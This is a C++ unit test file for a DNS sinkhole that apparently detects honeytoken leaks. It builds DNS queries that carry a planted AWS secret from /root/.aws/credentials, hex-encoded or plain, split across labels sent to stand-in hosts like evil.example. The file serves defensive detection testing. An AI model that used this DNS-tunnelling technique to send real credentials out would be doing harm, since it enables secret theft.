// Honeytokens cut into labels, and what of them the name service tells.
#include "agent/sinkhole/dns/dns_tunnel.h"

#include <gtest/gtest.h>

#include "agent/sinkhole/dns/dns_service.h"
#include "common/digest.h"

namespace assay::sinkhole {
namespace {

const std::string kSecret = "ZqT4vXw8LmN2pRs6YbCdKfGh7JkP0aQe";

lure::Lures lures() {
  lure::Lures out;
  out.tokens = {{"aws_key:/root/.aws/credentials", "aws_key", "/root/.aws/credentials", {kSecret}}};
  return out;
}

std::string query(const std::string& name, char type = 1) {
  std::string out("\x12\x34\1\0\0\1\0\0\0\0\0\0", 12);
  for (size_t begin = 0; begin < name.size();) {
    size_t end = std::min(name.find('.', begin), name.size());
    out += static_cast<char>(end - begin);
    out += name.substr(begin, end - begin);
    begin = end + 1;
  }
  return out + std::string("\0\0", 2) + type + std::string("\0\1", 2);
}

// What is told of tokens: "id encoding name" of each.
std::string ask(Scene& scene, const std::vector<std::string>& names) {
  std::string out;
  for (const std::string& name : names)
    for (char type : {'\x01', '\x1c'}) {
      std::vector<Report> told;
      answer_name_query(query(name, type), scene, 0, told);
      EXPECT_FALSE(told.empty());
      for (const Report& report : told)
        if (report.kind == ReportKind::token)
          out += report.method + " " + report.path + " " + report.detail + " " + report.name + " " +
                 report.app + "\n";
    }
  return out;
}

TEST(DnsTunnel, SecretInHexLabelsOfSeveralQueriesIsTold) {
  Scene scene(lures());
  std::string hex = to_hex(kSecret);
  EXPECT_EQ(
      ask(scene, {"0." + hex.substr(0, 20) + ".evil.example", "1." + hex.substr(20, 40) + ".evil.example"}),
      "sent aws_key:/root/.aws/credentials hex evil.example dns\n");
}

TEST(DnsTunnel, LabelsOfOneNameAreJoinedInTheirOwnCase) {
  Scene scene(lures());
  EXPECT_EQ(ask(scene, {kSecret.substr(0, 9) + "." + kSecret.substr(9, 9) + "." + kSecret.substr(18) +
                        ".evil.co.uk"}),
            "sent aws_key:/root/.aws/credentials plain evil.co.uk dns\n");
}

TEST(DnsTunnel, DomainItselfMayCarryIt) {
  Scene scene(lures());
  EXPECT_EQ(ask(scene, {to_hex(kSecret).substr(0, 60) + ".com"}).substr(0, 39),
            "sent aws_key:/root/.aws/credentials hex");
}

TEST(DnsTunnel, PiecesForDifferentDomainsAreNotOneStream) {
  Scene scene(lures());
  std::string hex = to_hex(kSecret).substr(0, 16);
  EXPECT_EQ(ask(scene, {hex.substr(0, 8) + ".evil.example", hex.substr(8) + ".other.example"}), "");
  EXPECT_EQ(ask(scene, {"www.evil.example", "mail.evil.example"}), "");
}

TEST(DnsTunnel, OldestDomainMakesRoom) {
  Scene scene(lures());
  for (size_t i = 0; i < 2 * DnsTunnels::kMaxDomains; ++i)
    scene.tunnels.note(scene.finder, "d" + std::to_string(i) + ".example", std::string("\1a\1b\1c\0", 7));
  std::string hex = to_hex(kSecret);
  EXPECT_NE(ask(scene, {hex.substr(0, 40) + ".evil.example"}), "");
}

TEST(DnsTunnel, ConversationTakesItsMessagesInPieces) {
  Scene scene(lures());
  Peer peer;
  peer.dst_port = 53;
  std::vector<Report> told;
  Moment moment{scene, peer, 0, told};
  std::string framed = query("a.example");
  framed = std::string(1, '\0') + static_cast<char>(framed.size()) + framed;
  EXPECT_EQ(begins_dns(framed, peer), Match::yes);
  EXPECT_EQ(begins_dns("GET /", peer), Match::no);
  peer.tls = true;
  EXPECT_EQ(begins_dns(framed, peer), Match::no);
  peer.dst_port = 853;
  EXPECT_EQ(begins_dns(framed, peer), Match::yes);
  auto talk = open_dns(moment);
  std::string out;
  for (char c : framed + framed) out += talk->hear(std::string_view(&c, 1), moment);
  ASSERT_EQ(out.size() % 2, 0u);
  EXPECT_EQ(out.substr(0, out.size() / 2), out.substr(out.size() / 2));
  EXPECT_EQ(told.size(), 2u);
  // Many at once are all answered, whatever they amount to.
  std::string flood;
  for (int i = 0; i < 4000; ++i) flood += framed;
  size_t before = told.size();
  for (size_t at = 0; at < flood.size(); at += 4096)
    talk->hear(std::string_view(flood).substr(at, 4096), moment);
  EXPECT_EQ(told.size() - before, 4000u);
  EXPECT_FALSE(talk->closing());
}

}  // namespace
}  // namespace assay::sinkhole
